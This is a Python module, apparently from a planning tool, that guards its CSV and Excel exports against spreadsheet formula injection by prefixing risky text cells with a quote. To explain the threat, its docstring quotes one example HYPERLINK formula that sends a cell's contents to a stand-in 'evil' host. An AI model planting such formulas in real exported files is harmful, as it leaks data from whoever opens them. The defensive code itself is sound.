"""Tables for spreadsheets: text cells that would run as formulas are neutralised.

Exports :func:`neutralise_text`, :func:`safe_frame`, :func:`csv_bytes`, :func:`write_csv`
and :func:`write_xlsx`. Every CSV (and XLSX) the planner writes or offers for download goes
through here: the CLI's output tables, the 24-hour notice list, the leakage tables and the
app's download buttons.

Why: names from INP files, CSV inputs, applicant names and study files reach the outputs as
written. A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` runs when a
clerk opens the file in Excel, WPS or LibreOffice. Following OWASP's CSV-injection advice,
a text cell whose first character (after leading spaces) is ``=``, ``+``, ``-``, ``@``, tab
or carriage return (or a full-width ``＝ ＋ － ＠``) gets a leading single quote, which the
spreadsheet shows as text. Numbers are never changed: numeric columns are written as they
are, and a text cell that is a plain number (``-5``, ``+1.5e3``) stays as it is.
Column names and index labels (node names) are treated like cells.
"""

from __future__ import annotations

import io
import os
import re
from pathlib import Path
from typing import Any

import pandas as pd

from models.atomic import replacing

FORMULA_START = frozenset("=+-@\t\r＝＋－＠")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width)."""
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_text(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula.

    Parameters
    ----------
    value : any
        Non-text values (numbers, None, dates) are returned unchanged.

    Examples
    --------
    >>> neutralise_text("=1+1"), neutralise_text("-5"), neutralise_text("J-12")
    ("'=1+1", '-5', 'J-12')
    """
    if not isinstance(value, str) or not value:
        return value
    head = value.lstrip(" ")
    if not head or head[0] not in FORMULA_START:
        return value
    if _PLAIN_NUMBER.fullmatch(head.strip()):
        return value
    return "'" + value


def _safe_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_safe_index(level) for level in index.levels]) \
            .set_names([neutralise_text(n) for n in index.names])
    if index.dtype == object or isinstance(index.dtype, pd.StringDtype):
        return pd.Index([neutralise_text(v) for v in index], name=neutralise_text(index.name),
                        dtype=index.dtype)
    return index.rename(neutralise_text(index.name))


def safe_frame(frame: pd.DataFrame | pd.Series) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised.

    Numeric, boolean and datetime columns are not touched. A Series becomes a one-column
    DataFrame.
    """
    if isinstance(frame, pd.Series):
        frame = frame.to_frame()
    out = frame.copy()
    for position in range(out.shape[1]):
        values = out.iloc[:, position]
        if values.dtype == object or isinstance(values.dtype, (pd.StringDtype,
                                                                pd.CategoricalDtype)):
            out.isetitem(position, values.astype(object).map(neutralise_text))
    out.columns = _safe_index(out.columns)
    out.index = _safe_index(out.index)
    return out


def csv_bytes(frame: pd.DataFrame | pd.Series, *, index: bool = False,
              encoding: str = "utf-8", **kw) -> bytes:
    """The neutralised table as CSV bytes (e.g. ``utf-8-sig`` for a download button).

    Extra keyword arguments go to :meth:`pandas.DataFrame.to_csv` (``float_format``, ...).
    """
    text = safe_frame(frame).to_csv(index=index, **kw)
    return text.encode(encoding)


def write_csv(frame: pd.DataFrame | pd.Series, path: str | os.PathLike, *, index: bool = False,
              encoding: str = "utf-8", **kw) -> Path:
    """Write the neutralised table as CSV, all or nothing (``models.replacing``).

    Returns
    -------
    pathlib.Path
        ``path``.
    """
    data = csv_bytes(frame, index=index, encoding=encoding, **kw)
    with replacing(path) as tmp:
        Path(tmp).write_bytes(data)
    return Path(path)


def write_xlsx(frame: pd.DataFrame | pd.Series, path: str | os.PathLike, *,
               sheet_name: str = "table", index: bool = False) -> Path:
    """Write the neutralised table as an Excel workbook, all or nothing.

    Needs an Excel engine for pandas (``openpyxl`` or ``xlsxwriter``).

    Raises
    ------
    ImportError
        No Excel engine is installed.
    """
    buffer = io.BytesIO()
    safe_frame(frame).to_excel(buffer, sheet_name=sheet_name[:31], index=index)
    with replacing(path) as tmp:
        Path(tmp).write_bytes(buffer.getvalue())
    return Path(path)
